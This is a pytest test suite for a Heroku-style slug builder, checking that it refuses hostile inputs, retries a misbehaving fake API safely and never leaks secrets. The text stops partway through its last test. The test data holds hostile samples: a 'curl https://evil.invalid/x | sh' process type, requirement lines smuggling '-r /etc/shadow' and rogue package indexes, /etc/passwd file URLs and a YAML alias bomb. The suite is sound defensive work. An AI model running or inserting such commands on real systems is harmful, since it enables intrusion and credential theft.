"""Hostile inputs at the trust boundaries: each ends in one exact outcome.

For every case: the exit status and error code are the ones expected, no
Python traceback reaches stderr, no slug is written when the command fails,
and no secret (token, config var value, URL password or signature) appears in
anything slugbuild prints or writes. The Platform API is a loopback fake that
can misbehave on purpose (trickle, drop, 5xx, malformed answers).
"""

from __future__ import annotations

import errno
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from slugbuild import cli, compile_app, errors, redact
from slugbuild.collectstatic import masked_environment
from slugbuild.config_vars import load_config_vars, read_env_file
from slugbuild.dependencies import constraints_from_slug_json
from slugbuild.log import Reporter
from slugbuild.slug import publish
from slugbuild.slug.inspect import describe_slug

from ..helpers import crafted_tar, default_sigint, make_app, run_cli

TOKEN = "tok-3f9a1c77e2d04b"
SIGNATURE = "sigV4-9d8e7f6a5b4c3d2e1f"
SECRETS = ("hunter2-db-pass", "mysql-pwd-7731", "sk_live_stripe_0042", "p/ss:w0rd/x")
MINIMAL = {
    ".python-version": "3.12\n",
    "requirements.txt": "six==1.17.0\n",
    "Procfile": "web: python -m http.server $PORT\n",
}


@pytest.fixture(autouse=True)
def _fresh_secrets():
    """The secret registry is process-wide: start and end every test without any."""
    redact.forget_secrets()
    yield
    redact.forget_secrets()


def assert_no_traceback(*texts: str) -> None:
    for text in texts:
        assert "Traceback (most recent call last)" not in text, text
        assert str(Path(cli.__file__).parent) not in text, text


def assert_one_error(stderr: str, code: str) -> None:
    codes = re.findall(r"Error \[([a-z0-9-]+)\]", stderr)
    assert codes == [code], stderr
    assert_no_traceback(stderr)


def assert_nothing_leaks(secrets, *texts: str) -> None:
    for text in texts:
        for secret in secrets:
            assert secret not in text, f"{secret!r} leaked in:\n{text}"


def handmade_slug(path: Path, files: dict[str, bytes | str], layout: str = "heroku") -> Path:
    """A slug tarball written directly (no build): enough for inspect and publish."""
    root = "./app/" if layout == "heroku" else "./"
    with tarfile.open(path, "w:gz") as tar:
        for directory in ([root] if layout == "heroku" else []) + [root + ".profile.d/"]:
            info = tarfile.TarInfo(directory)
            info.type, info.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(info)
        for name, data in files.items():
            data = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(root + name)
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


def cli_env(**extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("HEROKU_API_KEY",)}
    env.update(extra)
    return env


# --- the fake Platform API ------------------------------------------------------------


class FakeAPI:
    """A Platform API on 127.0.0.1; ``plan[(method, path)]`` lists behaviours to play
    in turn (the last one repeats): ("ok",), ("json", status, body), ("raw", status,
    bytes), ("trickle",) one byte every 0.5 s forever, ("drop",) close without answer.
    """

    def __init__(self, plan: dict[tuple[str, str], list[tuple]] | None = None) -> None:
        self.plan = plan or {}
        self.seen: list[tuple[str, str, dict, bytes]] = []
        self.stop = threading.Event()
        api = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def _handle(self, method: str) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0) or 0))
                path = self.path.split("?", 1)[0]
                api.seen.append((method, self.path, dict(self.headers), body))
                count = sum(1 for m, p, _, _ in api.seen if m == method
                            and p.split("?", 1)[0] == path)
                steps = api.plan.get((method, path)) or [("ok",)]
                step = steps[min(count, len(steps)) - 1]
                if step[0] == "ok":
                    step = api.default(method, path)
                if step[0] == "drop":
                    self.close_connection = True
                    self.connection.shutdown(socket.SHUT_RDWR)
                    return
                if step[0] == "trickle":
                    self.wfile.write(b"HTTP/1.1 200 OK\r\n")
                    self.wfile.flush()
                    while not api.stop.wait(0.5):
                        try:
                            self.wfile.write(b"X")
                            self.wfile.flush()
                        except OSError:
                            return
                    return
                status = step[1]
                data = step[2] if step[0] == "raw" else json.dumps(step[2]).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_POST(self):
                self._handle("POST")

            def do_PUT(self):
                self._handle("PUT")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def default(self, method: str, path: str) -> tuple:
        if path == "/apps/demo/slugs":
            return ("json", 201, {"id": "slug-1", "blob": {
                "method": "put", "url": f"{self.url}/blob?X-Amz-Signature={SIGNATURE}&e=1"}})
        if path == "/blob":
            return ("raw", 200, b"")
        if path == "/apps/demo/releases":
            return ("json", 201, {"id": "rel-1", "version": 9})
        return ("json", 404, {"message": "not found"})

    def calls(self, method: str, path: str) -> int:
        return sum(1 for m, p, _, _ in self.seen if m == method and p.split("?")[0] == path)

    def __enter__(self) -> FakeAPI:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop.set()
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def slug(tmp_path) -> Path:
    return handmade_slug(tmp_path / "slug.tgz", {
        "Procfile": "web: gunicorn app:app\n",
        ".heroku/python/include/python3.12/patchlevel.h": '#define PY_VERSION "3.12.1"\n',
    })


@pytest.fixture
def fast_retries(monkeypatch):
    monkeypatch.setattr(publish, "RETRY_DELAYS", (0.05, 0.05, 0.05))


def _publish(slug: Path, api: FakeAPI, **kwargs):
    return publish.publish_slug(slug, "demo", api_url=api.url, token=TOKEN,
                                reporter=Reporter(quiet=True), **kwargs)


# --- (A) publish robustness -------------------------------------------------------------


@pytest.mark.parametrize("where", [("POST", "/apps/demo/slugs"), ("PUT", "/blob"),
                                   ("POST", "/apps/demo/releases")])
def test_publish_gives_up_on_a_trickling_api_at_the_deadline(slug, where, fast_retries):
    with FakeAPI({where: [("trickle",)]}) as api:
        started = time.monotonic()
        with pytest.raises(errors.SlugbuildError) as caught:
            _publish(slug, api, timeout=2)
        elapsed = time.monotonic() - started
    assert caught.value.code == "publish-timeout"
    assert elapsed < 6, elapsed
    assert api.calls(*where) == 1  # a timeout is not retried: the deadline has passed
    released = where[1] == "/apps/demo/releases"
    assert ("may have reached" in caught.value.action) is released


def test_publish_cli_with_a_trickling_api_ends_within_its_timeout(slug):
    with FakeAPI({("POST", "/apps/demo/slugs"): [("trickle",)]}) as api:
        started = time.monotonic()
        result = run_cli("publish", slug, "--heroku-app", "demo", "--api-url", api.url,
                         "--timeout", "2", env=cli_env(HEROKU_API_KEY=TOKEN), timeout=60)
    assert time.monotonic() - started < 15
    assert result.returncode == 1
    assert_one_error(result.stderr, "publish-timeout")
    assert_nothing_leaks([TOKEN], result.stdout, result.stderr)


def test_publish_retries_5xx_and_dropped_connections_where_safe(slug, fast_retries):
    plan = {("POST", "/apps/demo/slugs"): [("json", 503, {"message": "busy"}),
                                            ("json", 500, {}), ("ok",)],
            ("PUT", "/blob"): [("drop",), ("raw", 502, b"bad gateway"), ("ok",)]}
    with FakeAPI(plan) as api:
        release = _publish(slug, api)
    assert release == {"id": "rel-1", "version": 9}
    assert api.calls("POST", "/apps/demo/slugs") == 3
    assert api.calls("PUT", "/blob") == 3
    assert api.calls("POST", "/apps/demo/releases") == 1
    uploads = [body for m, _, _, body in api.seen if m == "PUT"]
    assert uploads[-1] == slug.read_bytes()  # the retried upload sent the whole slug again


def test_publish_never_retries_a_release_that_may_have_been_made(slug, fast_retries):
    with FakeAPI({("POST", "/apps/demo/releases"): [("json", 500, {"message": "oops"})]}) \
            as api:
        with pytest.raises(errors.SlugbuildError) as caught:
            _publish(slug, api)
    assert caught.value.code == "publish-api-error"
    assert api.calls("POST", "/apps/demo/releases") == 1
    with FakeAPI({("POST", "/apps/demo/releases"): [("drop",)]}) as api:
        with pytest.raises(errors.SlugbuildError) as caught:
            _publish(slug, api)
    assert caught.value.code == "publish-unreachable"
    assert "may have reached" in caught.value.action
    assert api.calls("POST", "/apps/demo/releases") == 1
    # 429: refused before any work, so it is retried.
    with FakeAPI({("POST", "/apps/demo/releases"): [("json", 429, {}), ("ok",)]}) as api:
        assert _publish(slug, api)["id"] == "rel-1"
    assert api.calls("POST", "/apps/demo/releases") == 2


def test_publish_gives_up_after_the_retries(slug, fast_retries):
    with FakeAPI({("POST", "/apps/demo/slugs"): [("json", 503, {"message": "down"})]}) \
            as api:
        with pytest.raises(errors.SlugbuildError) as caught:
            _publish(slug, api)
    assert caught.value.code == "publish-api-error"
    assert "503" in caught.value.found and "tried 4 times" in caught.value.found
    assert api.calls("POST", "/apps/demo/slugs") == 4 and api.calls("PUT", "/blob") == 0


@pytest.mark.parametrize(("answer", "uploaded"), [
    (("json", 201, []), False),
    (("json", 201, {}), False),
    (("json", 201, {"id": 7, "blob": {"url": "http://x/"}}), False),
    (("json", 201, {"id": "slug-1"}), False),
    (("json", 201, {"id": "slug-1", "blob": {"method": "put"}}), False),
    (("json", 201, {"id": "slug-1", "blob": {"url": "file:///etc/passwd"}}), False),
    (("json", 201, {"id": "slug-1", "blob": {"url": "http://x/", "method": "DELETE"}}),
     False),
    (("raw", 201, b"<html>not json</html>"), False),
    (("raw", 201, b"[" * 100000 + b"]" * 100000), False),
    (("raw", 201, b"x" * (2 * 1024 * 1024)), False),
])
def test_malformed_slug_answers_are_refused_before_uploading(slug, answer, uploaded):
    with FakeAPI({("POST", "/apps/demo/slugs"): [answer]}) as api:
        with pytest.raises(errors.SlugbuildError) as caught:
            _publish(slug, api)
    assert caught.value.code == "publish-bad-response"
    assert api.calls("PUT", "/blob") == 0 and api.calls("POST", "/apps/demo/releases") == 0


@pytest.mark.parametrize("answer", [("json", 201, []), ("json", 201, {}),
                                    ("json", 201, {"version": 3}), ("raw", 201, b"")])
def test_malformed_release_answer_says_a_release_may_exist(slug, answer):
    with FakeAPI({("POST", "/apps/demo/releases"): [answer]}) as api:
        with pytest.raises(errors.SlugbuildError) as caught:
            _publish(slug, api)
    assert caught.value.code == "publish-bad-response"
    assert "heroku releases -a demo" in caught.value.action
    assert api.calls("POST", "/apps/demo/releases") == 1


def test_publish_cli_malformed_answer_after_upload_is_one_clear_error(slug):
    with FakeAPI({("POST", "/apps/demo/releases"): [("json", 201, [])]}) as api:
        result = run_cli("publish", slug, "--heroku-app", "demo", "--api-url", api.url,
                         env=cli_env(HEROKU_API_KEY=TOKEN))
    assert result.returncode == 1 and result.stdout == ""
    assert_one_error(result.stderr, "publish-bad-response")
    assert_nothing_leaks([TOKEN, SIGNATURE], result.stderr)


def test_publish_prints_no_credentials_of_the_api_url_or_the_upload_url(slug):
    password = "api-pa55-word"
    with FakeAPI({("PUT", "/blob"): [("json", 403, {"message": f"bad {SIGNATURE}"})]}) as api:
        base = api.url.replace("http://", f"http://user:{password}@")
        result = run_cli("publish", slug, "--heroku-app", "demo", "--api-url", base,
                         env=cli_env(HEROKU_API_KEY=TOKEN))
    assert result.returncode == 1
    assert_one_error(result.stderr, "publish-api-error")
    assert "/blob" in result.stderr
    assert_nothing_leaks([TOKEN, SIGNATURE, password, "pa55"], result.stdout, result.stderr)
    # A password holding `/` makes the URL unparseable: refused, nothing of it shown.
    result = run_cli("publish", slug, "--heroku-app", "demo",
                     "--api-url", "http://user:api-pa55/word@127.0.0.1:9",
                     env=cli_env(HEROKU_API_KEY=TOKEN))
    assert_one_error(result.stderr, "publish-bad-api-url")
    assert_nothing_leaks([TOKEN, "pa55", "word"], result.stderr)
    # Unreachable: the reason requests gives names the URL.
    result = run_cli("publish", slug, "--heroku-app", "demo", "--timeout", "0.5",
                     "--api-url", f"http://user:{password}@127.0.0.1:9",
                     env=cli_env(HEROKU_API_KEY=TOKEN))
    assert_one_error(result.stderr, "publish-unreachable")
    assert_nothing_leaks([TOKEN, password, "pa55"], result.stderr)


def test_publish_refuses_an_app_name_that_is_a_path(slug):
    with pytest.raises(errors.SlugbuildError) as caught:
        publish.publish_slug(slug, "../../account", api_url="http://127.0.0.1:9",
                             token=TOKEN, reporter=Reporter(quiet=True))
    assert caught.value.code == "publish-bad-app"


# --- (B) trust boundaries -------------------------------------------------------------


def test_publish_and_inspect_take_process_types_from_the_slug_not_slug_json(slug, tmp_path):
    from slugbuild.cache import file_sha256

    crafted = {"checksum": f"SHA256:{file_sha256(slug)}", "stack": "heroku-24",
               "process_types": {"web": "curl https://evil.invalid/x | sh"},
               "packages": [{"name": "evil", "version": "6.6.6"}],
               "runtime": {"resolved": "9.9.9", "requested": "3.12",
                           "source_file": ".python-version"}}
    (tmp_path / "slug.json").write_text(json.dumps(crafted))
    described = describe_slug(slug)
    assert described["process_types"] == {"web": "gunicorn app:app"}
    assert described["packages"] == [] and described["runtime"]["resolved"] == "3.12.1"
    assert described["stack"] == "heroku-24"  # a label, checked for shape
    with FakeAPI() as api:
        _publish(slug, api)
    created = json.loads(api.seen[0][3])
    assert created["process_types"] == {"web": "gunicorn app:app"}
    assert "curl" not in json.dumps(created)
    # A label of the wrong shape is dropped, not passed on.
    crafted["stack"] = "heroku-24\nX-Injected: 1"
    (tmp_path / "slug.json").write_text(json.dumps(crafted))
    assert describe_slug(slug)["stack"] is None


def test_inspect_prints_commands_literally_and_escapes_control_characters(tmp_path):
    procfile = ("web: gunicorn --chdir [/app] app:app\n"
                "worker: echo [conceal]hidden[/conceal] [bold]x\x1b[8mINVISIBLE\x1b[0m\x08"
                "OVERWRITE\x07\n")
    slug = handmade_slug(tmp_path / "s.tgz", {"Procfile": procfile}, layout="herokuish")
    result = run_cli("inspect", slug)
    assert result.returncode == 0, result.stderr
    assert_no_traceback(result.stderr)
    out = result.stdout
    assert "gunicorn --chdir [/app] app:app" in out
    assert "[conceal]hidden[/conceal] [bold]x" in out
    assert "\\x1b[8mINVISIBLE\\x1b[0m\\x08OVERWRITE\\x07" in out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", out.replace("\n", "")), repr(out)
    data = json.loads(run_cli("inspect", slug, "--json").stdout)
    assert data["process_types"]["web"] == "gunicorn --chdir [/app] app:app"


def test_inspect_masks_url_credentials_in_commands(tmp_path):
    procfile = "release: curl -fsS https://deploy:hunter2-token@hooks.invalid/x\n"
    slug = handmade_slug(tmp_path / "s.tgz", {"Procfile": procfile}, layout="herokuish")
    for args in ((), ("--json",)):
        result = run_cli("inspect", slug, *args)
        assert result.returncode == 0, result.stderr
        assert "https://***@hooks.invalid/x" in result.stdout
        assert_nothing_leaks(["hunter2-token"], result.stdout, result.stderr)


def test_inspect_of_hostile_release_yaml_is_a_clear_error(tmp_path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
        for p, c in zip("abcdefgh", "bcdefghi"))
    cases = {
        "bomb": bomb + "default_process_types:\n  web: *i\n",
        "deep": "default_process_types: " + "[" * 50000 + "]" * 50000 + "\n",
    }
    for name, text in cases.items():
        slug = handmade_slug(tmp_path / f"{name}.tgz", {".release": text}, layout="herokuish")
        started = time.monotonic()
        result = run_cli("inspect", slug, timeout=60)
        assert time.monotonic() - started < 30
        assert result.returncode == 1
        assert_one_error(result.stderr, "buildpack-release-invalid")


@pytest.mark.parametrize(("name", "version"), [
    ("six\n--extra-index-url https://evil.invalid/simple\nx", "1.0"),
    ("six", "1.0\n-r /etc/shadow"),
    ("-r /etc/shadow", "1"),
    ("six ; os_name=='posix'", "1.0"),
    ("six", "==1.0"),
    ("six", ">=1"),
    ("six", " 1.0"),
    ("six @ file:///etc/passwd", "1.0"),
    ("", "1.0"),
])
def test_constraints_from_refuses_anything_but_names_and_versions(tmp_path, name, version):
    path = tmp_path / "slug.json"
    path.write_text(json.dumps({"packages": [{"name": "ok", "version": "1.0"},
                                             {"name": name, "version": version}]}))
    with pytest.raises(errors.SlugbuildError) as caught:
        constraints_from_slug_json(path)
    assert caught.value.code == "constraints-unusable"
    assert "/etc/shadow" not in caught.value.render() or "-r" in name or "-r" in version


def test_constraints_from_writes_only_pins(tmp_path):
    path = tmp_path / "slug.json"
    path.write_text(json.dumps({"packages": [
        {"name": "Django", "version": "5.1.2"}, {"name": "zope.interface", "version": "7.0"},
        {"name": "six", "version": "1.17.0"}, {"name": "local-pkg", "version": "1.0+abc.1"}]}))
    assert constraints_from_slug_json(path) == (
        "Django==5.1.2\nlocal-pkg==1.0+abc.1\nsix==1.17.0\nzope.interface==7.0\n")
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100000 + "]" * 100000)
    with pytest.raises(errors.SlugbuildError) as caught:
        constraints_from_slug_json(deep)
    assert caught.value.code == "constraints-unusable"


def test_compile_with_injected_constraints_fails_before_any_build(tmp_path, cache_dir):
    app = make_app(tmp_path / "app", MINIMAL)
    injected = tmp_path / "old.json"
    injected.write_text(json.dumps({"packages": [
        {"name": "six\n-r /etc/shadow\n--extra-index-url http://127.0.0.1:9/", "version": "1"}]}))
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli("compile", app, "-o", out / "slug.tgz", "--cache-dir", cache_dir,
                     "--constraints-from", injected)
    assert result.returncode == 1
    assert_one_error(result.stderr, "constraints-unusable")
    assert list(out.iterdir()) == []
    assert "root:" not in result.stderr


@pytest.mark.parametrize("files", [
    {"requirements.in": "-r ../../../../../../etc/passwd\n"},
    {"requirements.in": "six\n--requirement=/etc/passwd\n"},
    {"requirements.in": "six\n-c sub/../../../etc/passwd\n"},
    {"requirements.in": "six\n", "requirements.txt": "-r /etc/passwd\nsix==1.17.0\n"},
    {"requirements.in": "../../../../etc\n"},
])
def test_lock_refuses_files_outside_the_app_as_compile_does(tmp_path, cache_dir, files):
    app = make_app(tmp_path / "app", files)
    before = {p: p.read_bytes() for p in app.iterdir()}
    result = run_cli("lock", app, "--cache-dir", cache_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, "requirements-outside-app")
    assert "root:" not in result.stderr + result.stdout  # /etc/passwd was never printed
    assert {p: p.read_bytes() for p in app.iterdir()} == before


@pytest.mark.parametrize("dependency", ["-r /etc/shadow", "six\n--index-url http://x/",
                                        "--extra-index-url=http://127.0.0.1:9/"])
def test_lock_refuses_pyproject_dependencies_that_are_not_pep_508(tmp_path, cache_dir,
                                                                  dependency):
    app = make_app(tmp_path / "app", {"pyproject.toml": (
        "[project]\nname = 'x'\nversion = '0'\n"
        f"dependencies = [{json.dumps(dependency)}]\n")})
    result = run_cli("lock", app, "--cache-dir", cache_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, "lock-file-malformed")
    assert not (app / "requirements.txt").exists()


def test_lock_refuses_a_pyproject_file_url_outside_the_app(tmp_path, cache_dir):
    app = make_app(tmp_path / "app", {"pyproject.toml": (
        "[project]\nname = 'x'\nversion = '0'\n"
        "dependencies = ['evil @ file:///etc/passwd']\n")})
    result = run_cli("lock", app, "--cache-dir", cache_dir)
    assert_one_error(result.stderr, "requirements-outside-app")


def test_debug_environment_hides_every_config_var_value(monkeypatch):
    monkeypatch.delenv("SLUGBUILD_SHOW_SECRETS", raising=False)
    config = {"DB_PASS": SECRETS[0], "MYSQL_PWD": SECRETS[1], "STRIPE_SK": SECRETS[2],
              "DATABASE_URL": f"postgres://u:{SECRETS[3]}@db/x", "SECRET_KEY": "k" * 50,
              "LANG": "xx_secret_lang"}
    lines = masked_environment({**config, "PATH": "/usr/bin", "HOSTVAR": "host-secret-1"},
                               config)
    assert_nothing_leaks([*SECRETS, "k" * 50, "xx_secret_lang", "host-secret-1", "db/x"],
                         "\n".join(lines))
    assert "DB_PASS=<hidden, 15 characters>" in lines and "PATH=/usr/bin" in lines


def test_error_messages_never_echo_a_config_var_or_env_line(tmp_path):
    env_file = tmp_path / "app.env"
    env_file.write_text(f"GOOD=1\n{SECRETS[0]}\n")
    with pytest.raises(errors.SlugbuildError) as caught:
        read_env_file(env_file)
    assert caught.value.code == "invalid-config-var" and "line 2" in caught.value.found
    assert_nothing_leaks([SECRETS[0]], caught.value.render())
    result = run_cli("compile", tmp_path, "--env", SECRETS[1], "-o", tmp_path / "x.tgz")
    assert_one_error(result.stderr, "invalid-config-var")
    assert_nothing_leaks([SECRETS[1]], result.stderr)
    result = run_cli("run", tmp_path / "missing.tgz", "--env-file", env_file)
    assert_one_error(result.stderr, "invalid-config-var")
    assert_nothing_leaks([SECRETS[0]], result.stderr)


def test_mask_hides_url_credentials_signatures_and_registered_values():
    redact.register_secrets(["my-config-value", "1", "true"])
    text = ("postgres://user:p/ss:w@rd@db:5432/x https://tok3n@github.com/o/r "
            "https://s3/b?X-Amz-Credential=AKIA1&X-Amz-Signature=abc&part=2 "
            "git+https://github.com/o/r@v1.2 value=my-config-value 1 true \x1b[2J")
    masked = redact.mask(text)
    for leaked in ("p/ss", "tok3n", "AKIA1", "=abc", "my-config-value", "\x1b"):
        assert leaked not in masked, masked
    assert "git+https://github.com/o/r@v1.2" in masked  # a ref is not a credential
    assert "part=2" in masked and " 1 true " in masked and "\\x1b[2J" in masked


@pytest.mark.slow
def test_secrets_never_reach_log_slug_json_or_errors(tmp_path, cache_dir):
    """A post_compile hook prints every config var; the log and the error mask them."""
    hook = "#!/bin/sh\necho \"db=$DB_PASS my=$MYSQL_PWD sk=$STRIPE_SK url=$DATABASE_URL\"\n"
    app = make_app(tmp_path / "app", {**MINIMAL, "bin/post_compile": hook})
    env_args = ["--env", f"DB_PASS={SECRETS[0]}", "--env", f"MYSQL_PWD={SECRETS[1]}",
                "--env", f"STRIPE_SK={SECRETS[2]}",
                "--env", f"DATABASE_URL=postgres://u:{SECRETS[3]}@db/x"]
    out = tmp_path / "out" / "slug.tgz"
    out.parent.mkdir()
    ok = run_cli("compile", app, "-o", out, "--cache-dir", cache_dir, *env_args)
    assert ok.returncode == 0, ok.stderr
    assert "db=**** my=**** sk=****" in ok.stderr
    assert_nothing_leaks(SECRETS, ok.stdout, ok.stderr, out.with_suffix(".json").read_text())
    (app / "bin/post_compile").write_text(hook + "exit 3\n")
    failed = run_cli("compile", app, "-o", tmp_path / "out" / "bad.tgz",
                     "--cache-dir", cache_dir, *env_args)
    assert failed.returncode == 1
    assert_one_error(failed.stderr, "hook-failed")
    assert_nothing_leaks(SECRETS, failed.stdout, failed.stderr)
    assert not (tmp_path / "out" / "bad.tgz").exists()


# --- (C) no traceback, ever ------------------------------------------------------------


@pytest.mark.parametrize("links", [[("self", "self")], [("a", "b"), ("b", "a")],
                                   [("sub/x", "../sub/y"), ("sub/y", "x")]])
def test_symlink_loops_are_one_clear_error(tmp_path, cache_dir, links):
    app = make_app(tmp_path / "app", MINIMAL)
    (app / "sub").mkdir()
    for name, target in links:
        (app / name).symlink_to(target)
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli("compile", app, "-o", out / "slug.tgz", "--cache-dir", cache_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, "symlink-loop")
    assert list(out.iterdir()) == []


@pytest.mark.parametrize(("files", "code"), [
    ({"Pipfile": "[packages]\n", "Pipfile.lock": "[" * 100000 + "]" * 100000},
     "lock-file-malformed"),
    ({"Pipfile": "[packages]\n", "Pipfile.lock": '{"_meta": ' + "[" * 100000 + "]" * 100000
      + "}"}, "lock-file-malformed"),
    ({"pyproject.toml": "[project]\nname='x'\nversion='0'\n",
      "uv.lock": "a = " + "[" * 100000 + "]" * 100000}, "lock-file-malformed"),
    ({"pyproject.toml": "[tool.poetry]\nname='x'\n",
      "poetry.lock": "a = " + "{b = " * 50000 + "}" * 50000}, "lock-file-malformed"),
    ({"requirements.txt": "six\n", "pyproject.toml": "a = " + "[" * 100000 + "]" * 100000},
     "version-file-unreadable"),
])
def test_deeply_nested_files_are_one_clear_error(tmp_path, cache_dir, files, code):
    app = make_app(tmp_path / "app", {k: v for k, v in files.items()})
    if "requirements.txt" not in files:
        (app / ".python-version").write_text("3.12\n")
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli("compile", app, "-o", out / "slug.tgz", "--cache-dir", cache_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, code)
    assert "nested too deeply" in result.stderr
    assert list(out.iterdir()) == []


def test_deep_pyproject_for_lock_is_one_clear_error(tmp_path, cache_dir):
    app = make_app(tmp_path / "app", {"pyproject.toml": "a = " + "[" * 100000 + "]" * 100000})
    result = run_cli("lock", app, "--cache-dir", cache_dir)
    assert_one_error(result.stderr, "lock-file-malformed")


def test_requirements_that_are_not_utf8_are_one_clear_error(tmp_path, cache_dir):
    app = make_app(tmp_path / "app", MINIMAL)
    (app / "requirements.txt").write_bytes(b"six==1.17.0\n\xff\xfe\n")
    result = run_cli("compile", app, "-o", tmp_path / "s.tgz", "--cache-dir", cache_dir)
    assert_one_error(result.stderr, "file-not-text")
    assert not (tmp_path / "s.tgz").exists()


@pytest.mark.parametrize(("value", "words"), [
    ("a\0b", "NUL byte"),
    ("x" * 200_000, "at most 131,072"),
])
def test_config_vars_no_process_can_take_are_refused(tmp_path, cache_dir, value, words):
    env_dir = tmp_path / "env"
    env_dir.mkdir()
    (env_dir / "BAD").write_text(value)
    app = make_app(tmp_path / "app", MINIMAL)
    result = run_cli("compile", app, "-o", tmp_path / "s.tgz", "--cache-dir", cache_dir,
                     "--env-dir", env_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, "invalid-config-var")
    assert words in result.stderr and "xxxxxxxxxx" not in result.stderr
    assert not (tmp_path / "s.tgz").exists()
    with pytest.raises(errors.SlugbuildError):
        load_config_vars({f"V{i}": "y" * 100_000 for i in range(12)})


def test_unreadable_directory_is_an_error_not_a_smaller_slug(tmp_path, cache_dir, monkeypatch):
    """os.walk skips what it cannot list; staging must stop instead (root reads anything,
    so the refusal is simulated where the kernel would give it)."""
    import slugbuild.stage as stage

    app = make_app(tmp_path / "app", {**MINIMAL, "private/data.txt": "x"})
    real_walk = os.walk

    def walk(top, *args, **kwargs):
        onerror = kwargs.get("onerror")
        for entry in real_walk(top, *args, **kwargs):
            yield entry
            if entry[0].endswith("app") and onerror is not None:
                onerror(PermissionError(errno.EACCES, "Permission denied",
                                        str(app / "private")))

    monkeypatch.setattr(stage.os, "walk", walk)
    with pytest.raises(errors.SlugbuildError) as caught:
        compile_app(app, tmp_path / "s.tgz", cache_dir=cache_dir, reporter=Reporter(quiet=True))
    assert caught.value.code == "permission-denied"
    assert str(app / "private") in caught.value.found
    assert not (tmp_path / "s.tgz").exists()


def test_unreadable_file_is_permission_denied(tmp_path, cache_dir, monkeypatch, capsys):
    import slugbuild.stage as stage

    app = make_app(tmp_path / "app", {**MINIMAL, "secret.pem": "x"})
    real_copy = shutil.copy2

    def copy2(source, target, *args, **kwargs):
        if str(source).endswith("secret.pem"):
            raise PermissionError(errno.EACCES, "Permission denied", str(source))
        return real_copy(source, target, *args, **kwargs)

    monkeypatch.setattr(stage.shutil, "copy2", copy2)
    code = cli.main(["compile", str(app), "-o", str(tmp_path / "s.tgz"),
                     "--cache-dir", str(cache_dir)])
    assert code == 1 and not (tmp_path / "s.tgz").exists()
    err = capsys.readouterr().err
    assert_one_error(err, "permission-denied")
    assert "secret.pem: Permission denied" in err


def test_full_disk_while_copying_the_runtime_is_disk_full(tmp_path, monkeypatch):
    """ENOSPC in the middle of the runtime copy (copytree gathers per-file errors)."""
    import slugbuild.runtime.layer as runtime_layer

    def copytree(source, target, *args, **kwargs):
        Path(target).mkdir(parents=True, exist_ok=True)
        why = f"[Errno {errno.ENOSPC}] No space left on device: '{target}/lib/x.so'"
        raise shutil.Error([(f"{source}/lib/x.so", f"{target}/lib/x.so", why)] * 3)

    monkeypatch.setattr(runtime_layer.shutil, "copytree", copytree)
    app = make_app(tmp_path / "app", MINIMAL)
    cache = tmp_path / "cold cache"  # a cold cache: the runtime layer is copied
    with pytest.raises(errors.SlugbuildError) as caught:
        compile_app(app, tmp_path / "s.tgz", cache_dir=cache, reporter=Reporter(quiet=True))
    assert caught.value.code == "disk-full"
    assert "3 files could not be copied" in caught.value.found
    assert not (tmp_path / "s.tgz").exists()
    assert not (cache / "runtimes").exists() or list((cache / "runtimes").iterdir()) == []
    assert list((cache / "tmp").iterdir()) == []


def _tmpfs(path: Path, size: str) -> bool:
    if os.geteuid() != 0 or shutil.which("mount") is None:
        return False
    path.mkdir(parents=True, exist_ok=True)
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                          capture_output=True)
    return done.returncode == 0


@pytest.mark.parametrize("full", ["cache", "output", "staging"])
def test_a_really_full_disk_is_one_clear_error(tmp_path, cache_dir, full):
    disk = tmp_path / "small disk"
    if not _tmpfs(disk, "2m"):
        pytest.skip("needs root and tmpfs to make a small disk")
    try:
        files = dict(MINIMAL)
        if full == "staging":
            files["big.bin"] = "x" * (3 * 1024 * 1024)
        app = make_app(tmp_path / "app", files)
        cache = disk / "cache" if full in ("cache", "staging") else cache_dir
        out = disk / "slug.tgz" if full == "output" else tmp_path / "slug.tgz"
        result = run_cli("compile", app, "-o", out, "--cache-dir", cache)
        assert result.returncode == 1
        code = {"cache": "disk-full", "staging": "disk-full",
                "output": "output-not-writable"}[full]
        assert_one_error(result.stderr, code)
        assert "No space left on device" in result.stderr
        assert not out.exists() and not out.with_suffix(".json").exists()
        if full != "output":
            assert list((cache / "tmp").iterdir()) == []
    finally:
        subprocess.run(["umount", str(disk)], check=False)


@pytest.mark.slow
def test_a_space_in_every_path_builds_and_runs(tmp_path):
    root = tmp_path / "My Documents"
    app = make_app(root / "my app", MINIMAL)
    out = root / "out dir" / "my slug.tgz"
    out.parent.mkdir()
    result = run_cli("compile", app, "-o", out, "--cache-dir", root / "cache dir")
    assert result.returncode == 0, result.stderr
    unpacked = root / "un packed"
